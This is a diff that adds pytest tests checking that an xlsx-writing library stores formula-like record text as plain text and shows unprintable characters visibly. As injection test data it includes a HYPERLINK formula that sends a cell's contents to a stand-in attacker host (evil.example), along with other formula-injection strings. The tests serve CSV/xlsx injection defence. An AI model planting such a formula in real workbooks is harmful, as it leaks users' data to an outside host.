@@ -1,0 +1,108 @@
+"""Record text in every xlsx the library writes is data (DESIGN principle 8): never a formula,
+never a crash on a character XML cannot hold, shown visibly (attacker findings 10/11, clerk 21)."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+openpyxl = pytest.importorskip("openpyxl")
+
+from softenv_core.cli.main import main  # noqa: E402
+from softenv_core.io.dataset_files import load_dataset  # noqa: E402
+from softenv_core.io.workbook_text import formula_like, shown  # noqa: E402
+
+EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "small-dataset.json"
+LINK = '=HYPERLINK("http://evil.example/?"&B3,"点此查看")'
+WRITERS = {
+    "export": ["export"],
+    "assess": ["assess", "--year", "2025", "--format", "xlsx"],
+    "yearend": ["yearend", "--year", "2025", "--format", "xlsx", "--audience", "public"],
+}
+
+
+def _dataset(tmp_path: Path, edit) -> Path:
+    d = json.loads(EXAMPLE.read_text(encoding="utf-8"))
+    edit(d)
+    path = tmp_path / "d.json"
+    path.write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
+    return path
+
+
+def _cells(path: Path) -> list:
+    return [c for ws in openpyxl.load_workbook(path) for row in ws.iter_rows() for c in row]
+
+
+def _hostile(d: dict) -> None:
+    d["points"][0]["enterprise"]["name"] = LINK
+    d["counties"][0]["name"] = "=1+2"
+    d["contacts"][0]["items"][0]["text"] = "@SUM(A1)"
+    d["contacts"][0]["note"] = "\t-1+1"
+
+
+@pytest.mark.parametrize("writer", sorted(WRITERS))
+def test_formula_like_record_text_is_a_text_cell_in_every_xlsx(tmp_path, writer):
+    src = _dataset(tmp_path, _hostile)
+    out = tmp_path / "o.xlsx"
+    args = WRITERS[writer]
+    assert main([args[0], str(src), *args[1:], "--out", str(out)]) == 0
+    cells = _cells(out)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value: c for c in cells if isinstance(c.value, str)}
+    assert "=1+2" in texts and texts["=1+2"].data_type == "s" and texts["=1+2"].quotePrefix
+    if writer != "yearend":  # the public year end names no enterprise
+        assert LINK in texts
+
+
+def test_formula_like_text_round_trips_through_export_and_import(tmp_path):
+    src = _dataset(tmp_path, _hostile)
+    assert main(["export", str(src), "--out", str(tmp_path / "e.xlsx")]) == 0
+    assert main(["import", str(tmp_path / "e.xlsx"), "--out", str(tmp_path / "back.json")]) == 0
+    assert load_dataset(tmp_path / "back.json") == load_dataset(src)
+
+
+@pytest.mark.parametrize("writer", sorted(WRITERS))
+def test_characters_xml_cannot_hold_are_shown_not_crashing(tmp_path, writer, capsys):
+    def edit(d: dict) -> None:
+        d["counties"][0]["name"] = "甲\x0b区"
+        d["contacts"][0]["note"] = "回访\ufffe记录\u202e"
+
+    src = _dataset(tmp_path, edit)
+    out = tmp_path / "o.xlsx"
+    args = WRITERS[writer]
+    assert main([args[0], str(src), *args[1:], "--out", str(out)]) == 0
+    values = {c.value for c in _cells(out) if isinstance(c.value, str)}
+    assert "甲␋区" in values
+    if writer == "export":
+        assert "回访<U+FFFE>记录<U+202E>" in values
+
+
+@pytest.mark.parametrize(
+    ("text", "risky"),
+    [
+        ("=1", True),
+        ("+86 138", True),
+        ("-", True),
+        ("@x", True),
+        ("  =1", True),
+        ("\u200b=1", True),
+        ("\uff1d1", True),
+        ("\tA", True),
+        ("\rA", True),
+        ("甲区", False),
+        ("379902", False),
+        ("a=b", False),
+        ("", False),
+        (" 甲", False),
+    ],
+)
+def test_formula_like(text, risky):
+    assert formula_like(text) is risky
+
+
+def test_shown_keeps_line_breaks_and_shows_what_xml_cannot_hold():
+    assert shown("a\tb\nc\rd") == "a\tb\nc\rd"
+    assert shown("\x00\x1b\x7f\x85\ud800\uffff") == "␀␛␡<U+0085><U+D800><U+FFFF>"
+    assert shown("普通文字") == "普通文字"
